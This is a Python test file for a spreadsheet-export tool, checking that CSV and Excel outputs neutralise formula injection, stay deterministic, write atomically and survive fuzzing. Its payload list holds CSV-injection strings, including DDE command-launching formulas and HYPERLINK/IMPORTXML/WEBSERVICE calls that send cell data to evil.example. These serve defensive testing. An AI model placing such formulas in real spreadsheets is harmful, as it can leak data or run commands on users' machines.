"""Formula injection, determinism, atomic writes, and fuzzing of the parser and the reader."""

import csv
import datetime as dt
import io
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from passpause import PasspauseError, parse_comment
from passpause.lexicon import load_lexicon
from passpause.pipeline import Settings, run
from passpause.read import read_export
from passpause.write.safety import is_formula_like, neutralise

AS_OF = dt.date(2025, 11, 24)
NOTE = "Pause du 01/11 au 20/11/2025, il reste 9 jours"

# OWASP CSV-injection payloads, DDE calls among them, and the variants spreadsheets accept.
PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A1),\"//a\")",
    "=WEBSERVICE(\"http://evil.example/\"&A1)",
    "=IMAGE(\"http://evil.example/pixel.png\")",
    "='file:///etc/passwd'#$passwd.A1",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\uff1d1+1",
    "\uff0bcmd|' /C calc'!A0",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "=+A1",
    "@@SUM(1)",
]


def export_with(tmp_path: Path, payload: str) -> Path:
    """A real CSV export whose every text field carries the payload."""
    path = tmp_path / "clients.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["Customer ID", "First name", "Last name", "Email", "Phone", "Comment"])
        # on a line of its own: a number in the sentence about the pause sends it to review
        writer.writerow(["0001", payload, payload, payload, payload, f"{payload}\n{NOTE}"])
        writer.writerow(["0002", "Ann", payload, "a@b.c", "", f"{payload} Pause"])
    return path


def test_there_are_at_least_twenty_payloads():
    assert len(PAYLOADS) >= 20
    assert all(is_formula_like(p) for p in PAYLOADS)


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_no_output_cell_can_become_a_formula(tmp_path, payload):
    result = run(Settings(export_with(tmp_path, payload), AS_OF, out_dir=tmp_path / "out"))
    assert result.counts["overdue"] == 1 and result.counts["review"] == 1

    with open(result.outputs["import"], encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    for value in rows[1]:
        assert not is_formula_like(value), value
    assert rows[1][1] == "'" + payload.strip()  # shown as written, after the quote

    book = openpyxl.load_workbook(result.outputs["worksheet"])
    seen = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate)
                if isinstance(cell.value, str) and is_formula_like(cell.value):
                    assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
                    seen += 1
    assert seen >= 4  # names, e-mail, phone and comments kept as written, as text


def test_neutralise_leaves_ordinary_text_alone():
    for text in ("Marie", "Pause du 01/11", "2025-11-24", "49,90 €", "a-b", ""):
        assert neutralise(text) == text


def test_same_input_same_csv_bytes(tmp_path):
    export = Path(__file__).parents[1] / "examples" / "export-clients.xlsx"
    first = run(Settings(export, AS_OF, out_dir=tmp_path / "a", generated="10:00"))
    second = run(Settings(export, AS_OF, out_dir=tmp_path / "b", generated="11:00"))
    assert Path(first.outputs["import"]).read_bytes() == Path(
        second.outputs["import"]).read_bytes()


def test_an_interrupted_run_leaves_no_file_behind(tmp_path, monkeypatch):
    from passpause import write

    def interrupted(*args, **kwargs):
        raise KeyboardInterrupt

    monkeypatch.setattr(write, "write_workbook", interrupted)
    out = tmp_path / "out"
    with pytest.raises(KeyboardInterrupt):
        run(Settings(export_with(tmp_path, "x"), AS_OF, out_dir=out))
    assert [p for p in out.iterdir() if p.name != ".passpause.lock"] == []


def test_an_earlier_run_is_kept_when_a_new_one_fails(tmp_path, monkeypatch):
    from passpause import write

    out = tmp_path / "out"
    first = run(Settings(export_with(tmp_path, "x"), AS_OF, out_dir=out))
    kept = Path(first.outputs["import"]).read_bytes()
    monkeypatch.setattr(write, "write_workbook", lambda *a, **k: 1 / 0)
    with pytest.raises(ZeroDivisionError):
        run(Settings(export_with(tmp_path, "y"), AS_OF, out_dir=out, force=True))
    assert Path(first.outputs["import"]).read_bytes() == kept
    assert sorted(p.name for p in out.iterdir() if p.name != ".passpause.lock") == ["import_2025-11-24.csv",
                                                     "reactivations_2025-11-24.ics",
                                                     "reactivations_2025-11-24.xlsx"]


# -- fuzzing ---------------------------------------------------------------------------------

PAUSE_WORDS = st.sampled_from(["Pause", "pausiert", "on hold", "gelé", "pausa", "pauze",
                               "du", "au", "bis", "il reste", "noch", "jours", "Tage", "→",
                               "-", "/", ".", "1er", "17", "06", "2025", "juin", "Juni",
                               "(", ")", "réactivé le", "\n", ";", "3 semaines", "ab"])
NOTES = st.lists(st.one_of(PAUSE_WORDS, st.text(max_size=8)), max_size=40).map(" ".join)
FAST = settings(max_examples=150, deadline=None,
                suppress_health_check=[HealthCheck.too_slow])


@FAST
@given(NOTES, st.dates(min_value=dt.date(2000, 1, 1), max_value=dt.date(2099, 12, 31)),
       st.booleans())
def test_the_parser_never_crashes_on_pause_like_text(note, as_of, month_first):
    for record in parse_comment(note, as_of=as_of, month_first=month_first):
        if record.status in ("overdue", "due", "upcoming", "open"):
            assert record.new_valid_from <= record.new_valid_until
        else:
            assert record.new_valid_until is None


@FAST
@given(st.text())
def test_the_parser_never_crashes_on_any_unicode(note):
    parse_comment(note, as_of=AS_OF)


@settings(max_examples=10, deadline=None)
@given(st.integers(min_value=1, max_value=60))
def test_very_long_notes_stay_fast(repeat):
    import time

    note = ("Pause du 01/11 au 20/11/2025, il reste 9 jours; tél 06 12 34 56 78. " * repeat
            * 10)[:40000]
    started = time.perf_counter()
    parse_comment(note, as_of=AS_OF)
    assert time.perf_counter() - started < 5  # a guard against runaway patterns, not a benchmark


@settings(max_examples=60, deadline=None)
@given(st.binary(max_size=3000), st.sampled_from([".csv", ".txt", ".xlsx", ".xls", ".ods"]))
def test_the_reader_only_ever_raises_its_own_errors(tmp_path_factory, raw, suffix):
    path = tmp_path_factory.mktemp("fuzz") / f"export{suffix}"
    path.write_bytes(raw)
    try:
        read_export(path, load_lexicon())
    except PasspauseError:
        pass


@settings(max_examples=40, deadline=None)
@given(st.lists(st.lists(st.text(max_size=20), min_size=1, max_size=6), max_size=8))
def test_the_reader_on_arbitrary_csv_text(tmp_path_factory, rows):
    out = io.StringIO()
    csv.writer(out).writerows([["Comment", "Email"]] + rows)
    path = tmp_path_factory.mktemp("fuzz") / "export.csv"
    path.write_text(out.getvalue(), encoding="utf-8")
    try:
        read_export(path, load_lexicon())
    except PasspauseError:
        pass


def test_the_reconciliation_fails_loudly_when_a_row_would_be_lost():
    from passpause.models import Client, Result, RowResult
    from passpause.pipeline import check_reconciliation

    lost = Result("x.csv", "", AS_OF, "en", 1, 1, (RowResult(Client(2), records=()),))
    with pytest.raises(RuntimeError, match="rows \\[2\\] mention a pause"):
        check_reconciliation(lost)
